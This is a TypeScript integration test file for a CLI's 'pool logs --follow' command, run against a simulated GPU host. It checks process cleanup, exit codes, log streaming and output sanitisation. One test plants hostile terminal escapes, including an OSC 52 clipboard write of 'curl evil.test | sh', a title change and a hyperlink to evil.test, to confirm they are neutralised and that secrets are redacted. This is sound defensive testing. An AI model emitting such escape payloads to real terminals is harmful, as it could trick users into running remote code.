import {spawn} from 'node:child_process'
import {readdirSync, readFileSync, writeFileSync} from 'node:fs'
import {dirname, join} from 'node:path'

import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import type {Simulator} from '../../src/lib/simulator/server.js'
import {BIN, cleanEnv, startCli} from '../support/cli.js'
import {MI300X_DROPLET, veldaYaml} from '../support/configs.js'
import {canRunHosts, hostSshFlags, sshWorkspace, startHostsSimulator} from '../support/hosts.js'
import {runInProcess} from '../support/in-process-cli.js'
import {CTRL_C, runOnPty} from '../support/pty.js'
import {FAKE_TAILSCALE_KEY} from '../support/secrets.js'
import {haveTool} from '../support/tools.js'

const canRun = canRunHosts('pool logs --follow against a simulated host') && haveTool('script', 'bsdutils', 'pool logs --follow on a real terminal')

describe.runIf(canRun)('velda-do pool logs --follow, on a real terminal', () => {
  const {configFile, key, state} = sshWorkspace('velda-follow-')
  const BOOT_MS = 10_000
  let clock = Date.UTC(2026, 10, 28, 22, 0, 0)
  let sim: Simulator
  let member: {id: number; name: string}

  beforeAll(async () => {
    sim = await startHostsSimulator(key, {bootMs: BOOT_MS, now: () => clock})
    ;[member] = sim.seedDroplets({count: 1, namePrefix: 'velda-b2f06752-', tags: ['velda', 'velda-pool:gpu'], size: 'gpu-mi300x1-192gb-devcloud'}) as [{id: number; name: string}]
    await sim.hostsReady()
  })
  afterAll(async () => {
    await sim?.close()
  })

  const env = () => ({DIGITALOCEAN_API_ENDPOINT: sim.url, DIGITALOCEAN_API_TOKEN: sim.token, XDG_STATE_HOME: state})

  it('SIGTERM: exit 143, and no tail -F is left running on the member', async () => {
    // A line count of its own, to know this follow's tail among the processes of this machine (the host's).
    const tail = 'tail\0-n\x004321\0-F\0/var/log/velda-bootstrap.log\0'
    const tails = () =>
      readdirSync('/proc').filter((pid) => {
        try {
          return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'latin1') === tail
        } catch {
          return false
        }
      })
    const child = startCli(['pool', 'logs', 'gpu', '1', '--follow', '-n', '4321', '-c', configFile, ...hostSshFlags(sim, key)], env())
    // Running on the member (its log may be empty yet: the boot has not begun on the simulator's clock).
    while (tails().length === 0) await new Promise((resolve) => setTimeout(resolve, 20))
    expect(tails()).toHaveLength(1)
    child.kill('SIGTERM')
    expect((await child.exited).status).toBe(143)
    // Gone: the watchdog ends it (GNU tail -F also ends by itself once sshd closes its output, which journalctl -f
    // and other followers need not do).
    while (tails().length > 0) await new Promise((resolve) => setTimeout(resolve, 20))
  })

  it('prints the boot log, then its new lines as the boot goes on, once each; Ctrl-C ends it: exit 130', async () => {
    clock += BOOT_MS / 2
    const follow = runOnPty(['pool', 'logs', 'gpu', '1', '--follow', '-c', configFile, ...hostSshFlags(sim, key)], env(), {stdout: 'terminal'})
    await follow.waitFor(/velda-bootstrap: step: gpu\r?\n/)
    expect(follow.screen()).not.toMatch(/step: agent\r?\n/)
    // The boot goes on; the host writes the log out when a command begins there (here a second one, beside the first).
    clock += BOOT_MS
    const other = await runInProcess(['pool', 'ssh', 'gpu', member.name, '-c', configFile, ...hostSshFlags(sim, key), '--', 'true'], {env: env()})
    expect(other.status, other.stderr).toBe(0)
    await follow.waitFor(/done: the Velda agent is starting\r?\n/)
    follow.type(CTRL_C)
    const {status} = await follow.exited
    expect(status).toBe(130)
    expect(follow.screen()).not.toMatch(/error|failed|try this/i)
    const lines = follow.screen().split(/\r?\n/).filter((line) => line.includes('velda-bootstrap:'))
    expect(lines.map((line) => line.replace(/^.*velda-bootstrap: /, ''))).toEqual([
      'bootstrapping Velda agent unknown',
      'step: packages',
      'step: agent-config',
      'step: gpu',
      'step: agent',
      'step: service',
      'done: the Velda agent is starting',
    ])
  })

  it('what the member prints reaches the terminal filtered: no clipboard write, title, hyperlink or C1 control raw, the token redacted', async () => {
    const ESC = '\x1b'
    sim.hosts?.setChatter(member.id, {
      text: [
        `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07 clipboard`,
        `${ESC}]0;pwned\x07 title`,
        `${ESC}]8;;https://evil.test/${ESC}\\link${ESC}]8;;${ESC}\\ hyperlink`,
        '\u009b2J C1 CSI \u009d0;C1 OSC\u009c',
        `token ${sim.token} in the log`,
        `tailscale key ${FAKE_TAILSCALE_KEY} in the log`,
        'the end of the chatter',
        '',
      ].join('\n'),
      repeat: 1,
      intervalMs: 0,
    })
    try {
      // The pool joins a tailnet: its key, read from the config, is a secret of this run too.
      const withTailnet = join(dirname(configFile), 'tailnet.yaml')
      writeFileSync(withTailnet, veldaYaml([{name: 'gpu', droplet: {...MI300X_DROPLET, tailscale_config: '{pre_auth_key: "${TS_KEY}"}'}}]))
      const follow = runOnPty(['pool', 'logs', 'gpu', '1', '--follow', '-c', withTailnet, ...hostSshFlags(sim, key)], {...env(), TS_KEY: FAKE_TAILSCALE_KEY}, {stdout: 'terminal'})
      await follow.waitFor(/the end of the chatter\r?\n/)
      follow.type(CTRL_C)
      expect((await follow.exited).status).toBe(130)
      const screen = follow.screen()
      for (const raw of [`${ESC}]52`, `${ESC}]0;`, `${ESC}]8;`, '\u009b', '\u009d', '\x07']) expect(screen).not.toContain(raw)
      expect(screen).not.toContain(sim.token)
      // Shown as visible escapes, so the operator sees what the member tried.
      expect(screen).toContain('\\x1b]52;c;')
      expect(screen).toContain('\\x9b2J C1 CSI')
      expect(screen).toContain('token <redacted> in the log')
      expect(screen).not.toContain(FAKE_TAILSCALE_KEY)
      expect(screen).toContain('tailscale key <redacted> in the log')
    } finally {
      sim.hosts?.setChatter(member.id, null)
    }
  })

  it('a reader that goes away (| head) ends the follow: exit 0, not printing to no one for ever', async () => {
    sim.hosts?.setChatter(member.id, {text: 'still printing\n', repeat: 1_000_000, intervalMs: 100})
    try {
      const child = spawn(process.execPath, [BIN, 'pool', 'logs', 'gpu', '1', '--follow', '-c', configFile, ...hostSshFlags(sim, key)], {env: cleanEnv(env()), stdio: ['ignore', 'pipe', 'pipe']})
      let stderr = ''
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()))
      const exited = new Promise<number | null>((resolve) => child.once('close', resolve))
      await new Promise<void>((resolve) => {
        let seen = ''
        child.stdout.on('data', (chunk: Buffer) => {
          seen += chunk.toString()
          if (seen.includes('still printing\n')) resolve()
        })
      })
      // As `| head -1` does once it has its line.
      child.stdout.destroy()
      expect(await exited, stderr).toBe(0)
    } finally {
      sim.hosts?.setChatter(member.id, null)
    }
  })
})
